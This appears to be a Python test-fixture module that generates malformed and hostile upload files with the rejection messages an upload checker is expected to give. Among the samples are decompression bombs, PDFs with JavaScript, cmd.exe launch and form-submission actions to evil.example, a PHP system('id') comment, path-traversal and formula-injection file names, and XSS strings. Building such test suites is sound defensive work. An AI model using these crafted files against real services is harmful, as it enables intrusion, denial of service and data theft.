"""Files made in code, good and bad. A bad one names the words of its answer, or None where it is made harmless."""
# ruff: noqa: E501  (tables of one line per file)

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

RED = (200, 30, 30)
GPS = 0x8825
EXIF = 0x8769


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (320, 200), mode: str = "RGB", **options: object
) -> bytes:
    """A plain picture of one colour."""
    out = io.BytesIO()
    Image.new(mode, size, RED if mode == "RGB" else None).save(out, kind, **options)
    return out.getvalue()


def phone_photo(
    *, taken: str = "2026:09:08 15:02:11", offset: str | None = None, orientation: int = 6
) -> bytes:
    """A JPEG as a phone writes it: lying on its side, with place, camera, time and a comment."""
    exif = Image.Exif()
    exif[0x010F] = "SECRETPHONE"
    exif[0x0112] = orientation
    exif.get_ifd(EXIF)[0x9003] = taken
    if offset:
        exif.get_ifd(EXIF)[0x9011] = offset
    exif.get_ifd(GPS).update({1: "N", 2: (26.0, 34.0, 12.0), 3: "E", 4: (106.0, 42.0, 1.0)})
    return picture(size=(400, 300), exif=exif, comment=b"SECRETCOMMENT")


def png_header_only(width: int, height: int) -> bytes:
    """A PNG of a few KB that claims to be huge: a decoder that believes it fills the memory."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    rows = zlib.compress(b"\0" * 1_000_000, 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def bomb() -> bytes:
    """81 million honest pixels in some ten KB."""
    return picture("PNG", (9000, 9000), "L")


def pdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    """A PDF of one empty page, after ``change``."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **entries: str) -> DictionaryObject:
    """A PDF action dictionary."""
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    made.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()})
    return made


def _root(key: str, value: object) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject(key)] = value

    return change


def _page_annotation(writer: PdfWriter) -> None:
    link = DictionaryObject(
        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action("/Launch", F="cmd.exe")}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _names_tree(writer: PdfWriter) -> None:
    script = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def pdf_with_hidden_script() -> bytes:
    """The script stands in a compressed object stream under a name written with an escape."""
    body = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
    packed = zlib.compress(b"5 0 " + body)
    parts = [
        b"%PDF-1.5\n",
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(packed), packed),
    ]
    offsets, at = [], 0
    for part in parts:
        offsets.append(at)
        at += len(part)
    rows = struct.pack(">BHB", 0, 0, 255)
    rows += b"".join(struct.pack(">BHB", 1, offset, 0) for offset in offsets[1:])
    rows += struct.pack(">BHB", 2, 4, 0) + struct.pack(">BHB", 1, at, 0)
    xref = (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(rows), rows)
    )
    return b"".join(parts) + xref + b"startxref\n%d\n%%%%EOF\n" % at


def pdf_of(*objects: bytes) -> bytes:
    """A one-page PDF of objects written by hand behind its catalogue, tree and page (numbers 4 and up)."""
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        *objects,
    ]
    made, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, part in enumerate(parts, start=1):
        offsets.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(parts) + 1
    made += b"xref\n0 %d\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R >>\n" % (size, table, size)
    return bytes(made) + b"startxref\n%d\n%%%%EOF\n" % made.index(b"xref\n0 ")


def pdf_stream_bomb() -> bytes:
    """A packed list of objects that unfolds to 400 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(400)) + packer.flush()
    body = bytes(pdf_with_hidden_script())
    head, _, rest = body.partition(b"4 0 obj\n")
    old, _, tail = rest.partition(b"endobj\n")
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\n" % (
        len(packed),
        packed,
    )
    grown = len(stream) - len(old)
    at = int(tail.partition(b"startxref\n")[2].split(b"\n")[0]) + grown
    whole = head + b"4 0 obj\n" + stream + b"endobj\n" + tail.partition(b"startxref\n")[0]
    return whole + b"startxref\n%d\n%%%%EOF\n" % at


def animated(kind: str, frames: int = 40) -> bytes:
    """A picture of many frames."""
    out = io.BytesIO()
    more = [Image.new("RGB", (320, 200), (at, at, at)) for at in range(frames)]
    Image.new("RGB", (320, 200), RED).save(out, kind, save_all=True, append_images=more)
    return out.getvalue()


def png_with(name: bytes, unpacked: int) -> bytes:
    """A PNG whose chunk ``name`` unfolds to so many bytes."""
    data = b"x\0\0" + zlib.compress(b"\0" * unpacked, 9)
    chunk = struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    whole = picture("PNG")
    at = whole.index(b"IDAT") - 4
    return whole[:at] + chunk + whole[at:]


def photo_with_words(words: str) -> bytes:
    """A JPEG whose EXIF and XMP say ``words``."""
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = words
    return picture(exif=exif, xmp=words.encode())


def archive(name: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr(name, "<w/>")
    return out.getvalue()


@dataclass(frozen=True)
class Bad:
    """One bad file: what it is called, how it is made, words of the answer (None: taken and made harmless)."""

    name: str
    make: Callable[[], bytes]
    says: str | None
    what: str


HEIC = "HEIC照片"
OTHER = "请改用图片或PDF"
MISMATCH = "和它的后缀不一致"
BROKEN = "打不开"
ACTIVE = "脚本、附件"
UNREADABLE = "不能显示的字符"

BAD_FILES: list[Bad] = [
    Bad("炸弹.png", bomb, "8100万像素", "a small PNG of 81 million pixels"),
    Bad("谎言.png", lambda: png_header_only(60000, 60000), "像素", "a header that claims 3.6 billion pixels"),
    Bad("短行.png", lambda: png_header_only(7000, 7000), BROKEN, "fewer rows than its header claims"),
    Bad("半张.jpg", lambda: picture(size=(2000, 1500), quality=95)[:9000], BROKEN, "a JPEG cut off"),
    Bad("半张.png", lambda: picture("PNG", (2000, 1500))[:-60], BROKEN, "a PNG cut off"),
    Bad("半张.webp", lambda: picture("WEBP", (2000, 1500))[:60], BROKEN, "a WebP cut off"),
    Bad("只有头.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF", BROKEN, "only a JPEG's first bytes"),
    Bad("三字节.jpg", lambda: b"\xff\xd8\xff", BROKEN, "three bytes"),
    Bad("长条.png", lambda: png_header_only(2**31 - 1, 1), "像素", "a header of two billion pixels in one row"),
    Bad("零宽.png", lambda: png_header_only(0, 100), BROKEN, "a header without width"),
    Bad("文字炸弹.png", lambda: png_with(b"zTXt", 80 << 20), BROKEN, "text in a PNG that unfolds to 80 MB"),
    Bad("色彩炸弹.png", lambda: png_with(b"iCCP", 80 << 20), BROKEN, "a colour profile that unfolds to 80 MB"),
    Bad("只有签名.png", lambda: b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", BROKEN, "HTML behind a PNG's signature"),
    Bad("动画.webp", lambda: animated("WEBP"), None, "an animated WebP: its first frame alone"),
    Bad("动画.png", lambda: animated("PNG"), None, "an animated PNG: its first frame alone"),
    Bad("空.jpg", lambda: b"", "是空文件", "no bytes"),
    Bad("空.pdf", lambda: b"", "是空文件", "no bytes as PDF"),
    Bad("大.jpg", lambda: picture() + b"\0" * (10 * 1024 * 1024 + 1 - len(picture())), "10.1MB", "10 MB and one byte"),
    Bad("很大.pdf", lambda: b"%PDF-1.7\n" + b"\0" * (48 * 1024 * 1024), "48.1MB", "48 MB"),
    Bad("网页.jpg", lambda: b"<!doctype html><script>alert(1)</script>", MISMATCH, "HTML as a picture"),
    Bad("网页.pdf", lambda: b"<html><script>alert(1)</script></html>", MISMATCH, "HTML as PDF"),
    Bad("图.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", OTHER, "SVG"),
    Bad("图.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", MISMATCH, "SVG as PNG"),
    Bad("图.webp", lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", MISMATCH, "SVG as WebP"),
    Bad("图.pdf", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", MISMATCH, "SVG as PDF"),
    Bad("图.eps.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(run) exec", MISMATCH, "PostScript as JPEG"),
    Bad("图.ico.png", lambda: b"\0\0\1\0\1\0" + b"\0" * 90, MISMATCH, "an icon as PNG"),
    Bad("图.avif.jpg", lambda: b"\0\0\0\x1cftypavif\0\0\0\0mif1avif", MISMATCH, "AVIF as JPEG"),
    Bad("动图.gif", lambda: picture("GIF"), OTHER, "GIF"),
    Bad("动图.jpg", lambda: picture("GIF"), MISMATCH, "GIF as JPEG"),
    Bad("图.bmp", lambda: picture("BMP"), OTHER, "BMP"),
    Bad("图.tiff", lambda: picture("TIFF"), OTHER, "TIFF"),
    Bad("图.tiff.jpg", lambda: picture("TIFF"), MISMATCH, "TIFF as JPEG"),
    Bad("名单.zip", archive, "“名单.zip”不能上传，请改用图片或PDF", "an archive"),
    Bad("名单.docx", archive, OTHER, "Word"),
    Bad("名单.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, OTHER, "old Word"),
    Bad("名单.xlsx", lambda: archive("xl/workbook.xml"), OTHER, "Excel"),
    Bad("名单.pdf", archive, MISMATCH, "an archive as PDF"),
    Bad("程序.exe", lambda: b"MZ" + b"\0" * 300, OTHER, "a program"),
    Bad("程序.jpg", lambda: b"MZ" + b"\0" * 300, MISMATCH, "a program as JPEG"),
    Bad("照片.jpg.exe", picture, OTHER, "a second extension"),
    Bad("照片", picture, OTHER, "no extension"),
    Bad("照片.", picture, OTHER, "an empty extension"),
    Bad("照片.ｊｐｇ", picture, OTHER, "a full-width extension"),
    Bad("照片.heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", HEIC, "HEIC"),
    Bad("照片.HEIF", picture, HEIC, "HEIF by its name"),
    Bad("IMG_0001.JPG", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 99, HEIC, "HEIC under a JPEG's name"),
    Bad("IMG_0002.jpg", lambda: b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic", HEIC, "another brand of HEIC"),
    Bad("视频.jpg", lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom", MISMATCH, "a film"),
    Bad("文件.jpg", pdf, MISMATCH, "a PDF under a picture's name"),
    Bad("文件.pdf", picture, MISMATCH, "a picture under a PDF's name"),
    Bad("半份.pdf", lambda: pdf()[:120], BROKEN, "a PDF cut off"),
    Bad("假.pdf", lambda: b"%PDF-1.7\nnothing here\n%%EOF", BROKEN, "only a PDF's first line"),
    Bad("无页.pdf", lambda: pdf().replace(b"/Count 1", b"/Count 0").replace(b"/Kids [ ", b"/Kids [%"), BROKEN, "no page"),
    Bad("脚本.pdf", lambda: pdf(_root("/OpenAction", action("/JavaScript", JS="app.alert(1)"))), ACTIVE, "script at opening"),
    Bad("脚本2.pdf", lambda: pdf(_names_tree), ACTIVE, "script in the names tree"),
    Bad("脚本3.pdf", pdf_with_hidden_script, ACTIVE, "script in a packed object under an escaped name"),
    Bad("脚本4.pdf", lambda: pdf(_root("/AA", DictionaryObject({NameObject("/WC"): action("/JavaScript", JS="1")}))), ACTIVE, "script at closing"),
    Bad("启动.pdf", lambda: pdf(_page_annotation), ACTIVE, "a link that starts a program"),
    Bad("外发.pdf", lambda: pdf(_root("/OpenAction", action("/SubmitForm", F="http://evil.example"))), ACTIVE, "sends a form"),
    Bad("表单.pdf", lambda: pdf(_root("/AcroForm", DictionaryObject({NameObject("/XFA"): TextStringObject("x")}))), ACTIVE, "an XFA form"),
    Bad("附件.pdf", lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), ACTIVE, "carries a file"),
    Bad("网址.pdf", lambda: pdf_of(b"<< /S /URI /URI (JavaScript :alert\\(1\\)) >>"), ACTIVE, "a link that is a script"),
    Bad("本机.pdf", lambda: pdf_of(b"<< /S /URI /URI (file:///etc/passwd) >>"), ACTIVE, "a link into the reader's machine"),
    Bad("远程.pdf", lambda: pdf_of(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>"), ACTIVE, "opens a file elsewhere"),
    Bad("内嵌.pdf", lambda: pdf_of(b"<< /S /GoToE /T << /R /C /N (a) >> >>"), ACTIVE, "opens a file that it carries"),
    Bad("导入.pdf", lambda: pdf_of(b"<< /S /ImportData /F (a.fdf) >>"), ACTIVE, "imports data"),
    Bad("播放.pdf", lambda: pdf_of(b"<< /S /Rendition /JS (1) >>"), ACTIVE, "plays and runs"),
    Bad("转义.pdf", lambda: pdf_of(b"<< /S /#4aavaScript /J#53 (1) >>"), ACTIVE, "a script under an escaped name, never referred to"),
    Bad("对象炸弹.pdf", pdf_stream_bomb, BROKEN, "a list of objects that unfolds to 400 MB"),
    Bad("嵌套.pdf", lambda: pdf_of(b"[" * 60000 + b"]" * 60000), BROKEN, "60,000 lists in one another"),
    Bad("加密.pdf", lambda: pdf(lambda writer: writer.encrypt("secret")), "密码", "encrypted"),
    Bad("两用.pdf", lambda: pdf() + archive(), ACTIVE, "a PDF and an archive in one"),
    Bad("先网页.pdf", lambda: b"<script>alert(1)</script>" + pdf(), MISMATCH, "HTML before the PDF"),
    Bad("两用.jpg", lambda: picture() + archive(), None, "a JPEG and an archive in one"),
    Bad("尾巴.png", lambda: picture("PNG") + b"<script>alert(1)</script>", None, "a PNG with HTML behind it"),
    Bad("注释.jpg", lambda: picture(comment=b"<?php system('id'); ?>"), None, "code in a JPEG's comment"),
    Bad("其实是PNG.jpg", lambda: picture("PNG"), None, "a PNG named as JPEG by a phone"),
    Bad("说明.jpg", lambda: photo_with_words("<script>alert(1)</script>"), None, "a script in EXIF and XMP"),
    Bad("照片.php.jpg", picture, None, "a second extension in front"),
    Bad("CON.jpg", picture, None, "the name of a device"),
    Bad("%2e%2e%2f照片.jpg", picture, None, "a path in the code of addresses"),
    Bad("<script>alert(1)</script>.jpg", picture, None, "HTML as name, cut at its slash"),
    Bad("=cmd|' C calc'!A1.jpg", picture, None, "a formula as name"),
    Bad("../../../etc/passwd", picture, OTHER, "a path out of the folder"),
    Bad("照片.jpg::$DATA", picture, OTHER, "a stream of a Windows file"),
    Bad("照片.jpg%00.exe", picture, OTHER, "a coded NUL before another extension"),
    Bad("照片\u202egpj.jpg", picture, UNREADABLE, "an override of the reading direction"),
    Bad("照片\u2066.jpg", picture, UNREADABLE, "an isolate of the reading direction"),
    Bad("照\x00片.jpg", picture, UNREADABLE, "NUL in the name"),
    Bad("照\n片.jpg", picture, UNREADABLE, "a line break in the name"),
    Bad("照\ud83d片.jpg", picture, UNREADABLE, "half a surrogate pair in the name"),
    Bad("长" * 200 + ".jpg", picture, None, "a name of 604 bytes"),
    Bad("a" * 250 + ".jpg", picture, None, "a name of 254 bytes"),
    Bad("x." + "j" * 240, picture, OTHER, "an extension of 240 letters"),
    Bad("..\\..\\etc\\照片.jpg", picture, None, "a path as name"),
]  # fmt: skip
